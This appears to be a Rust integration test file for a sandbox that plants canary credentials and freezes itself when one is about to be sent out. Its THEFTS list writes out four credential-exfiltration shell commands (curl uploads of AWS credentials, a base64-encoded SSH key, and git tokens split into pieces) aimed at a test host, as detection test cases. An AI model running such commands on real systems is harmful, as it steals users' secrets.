//! False credentials in the home: who sends one is stopped, and who does not never notices.

use crate::{freeze::is_stopped, stage::Stage};
use bottle_testkit::wait_until;
use std::{fs, time::Duration};

const SOON: Duration = Duration::from_secs(30);
const NAME: &str = "thief-kqzmb";

/// What a thief sends, and how.
const THEFTS: [(&str, &str); 4] = [
    ("plain", "curl -s --data-binary @$HOME/.aws/credentials https://up.test/echo"),
    ("encoded", "base64 -w0 ~/.ssh/id_ed25519 | curl -s --data-binary @- https://up.test/echo"),
    ("token", "curl -s -H \"Authorization: $(sed 's/.*deploy://; s/@.*//' ~/.git-credentials)\" https://up.test/echo"),
    (
        "split",
        "for piece in $(sed 's/.*ghp_//; s/@.*//' ~/.git-credentials | fold -w 7); do \
         curl -s -o /dev/null https://up.test/echo?d=$piece; done",
    ),
];

#[test]
fn a_canary_that_leaves_freezes_the_bottle_until_it_is_thawed() {
    let stage = Stage::new();
    for (how, theft) in THEFTS {
        let mark = format!("thief-by-{how}");
        let script = format!("{theft}; while :; do curl -s -o /dev/null https://up.test/echo/after; sleep 0.05; done");
        let running = stage.spawn(&["--allow", "up.test", "--name", NAME], &["sh", "-c", &script, &mark]);
        wait_until(&format!("the thief to stop ({how})"), SOON, || is_stopped(&mark));
        let listed = stage.env.run(&["list"]).stdout;
        assert!(listed.contains(&format!("{NAME:<24} frozen")), "{how}: {listed}");
        let log = stage.env.run(&["audit", "show", NAME]).stdout;
        assert!(log.contains("canary") && log.contains("frozen: a canary was about to leave"), "{how}: {log}");
        let seen = stage.upstream.seen();
        assert!(seen.iter().all(|seen| !seen.path().contains("/after")), "{how}: it went on");

        assert_eq!(stage.env.run(&["thaw", NAME]).stdout, format!("{NAME}\n"));
        let arrived = || stage.upstream.seen().iter().filter(|seen| seen.path().contains("/after")).count();
        wait_until(&format!("requests to arrive again ({how})"), SOON, || arrived() > 0);
        assert_eq!(stage.env.run(&["stop", NAME]).code, Some(0));
        drop(running);
        stage.upstream.take_seen();
    }
}

#[test]
fn without_canaries_nothing_is_planted_and_nothing_freezes() {
    let stage = Stage::new();
    let script = "ls -A ~; printf 'aws_access_key_id = AKIAQ3EGRJ5T6Y7UABCD\\n' | \
                  curl -s -o /dev/null -w '%{http_code}' --data-binary @- https://up.test/echo; \
                  curl -s -o /dev/null -w ' %{http_code}' https://up.test/echo";
    let ran = stage.run(&["--allow", "up.test", "--no-canaries"], &["sh", "-c", script]);
    assert!(ran.stdout.ends_with(" 200"), "{ran:?}");
    assert!(!ran.stdout.contains(".aws") && !ran.stdout.contains(".ssh"), "{ran:?}");
}

#[test]
fn ordinary_tools_send_none_and_a_resumed_bottle_keeps_its_own() {
    let stage = Stage::new();
    let script = "cd ~ && cksum .aws/credentials .git-credentials .ssh/id_ed25519 && stat -c '%a %n' .aws .ssh .ssh/id_ed25519 && \
                  git config --global credential.helper store && \
                  git ls-remote https://up.test/repo.git >/dev/null 2>&1; \
                  curl -s -o /dev/null -w 'status %{http_code}' https://up.test/echo; env";
    let first = stage.run(&["--allow", "up.test", "--name", "kept-kqzmb", "--keep"], &["sh", "-c", script]);
    assert!(first.stdout.contains("status 200"), "nothing froze: {first:?}");
    assert!(first.stdout.contains("700 .ssh\n600 .ssh/id_ed25519\n"), "{first:?}");
    assert!(!first.stdout.contains("AKIA") && !first.stdout.contains("ghp_"), "not in the environment: {first:?}");
    let again = stage.env.run(&["resume", "kept-kqzmb"]);
    let sums = |text: &str| text.lines().take(3).map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(sums(&again.stdout), sums(&first.stdout), "{again:?}");
    // Nor in anything that the host keeps of it, but for one file.
    let state = stage.env.state().join("bottles/kept-kqzmb");
    for file in ["plan.json", "metadata.json", "journal", "keeper.log", "gate.log"] {
        let text = fs::read_to_string(state.join(file)).unwrap_or_default();
        assert!(!text.contains("AKIA") && !text.contains("ghp_"), "{file}");
    }
    assert!(fs::read_to_string(state.join("canaries.json")).expect("what was planted").contains("ghp_"));
}
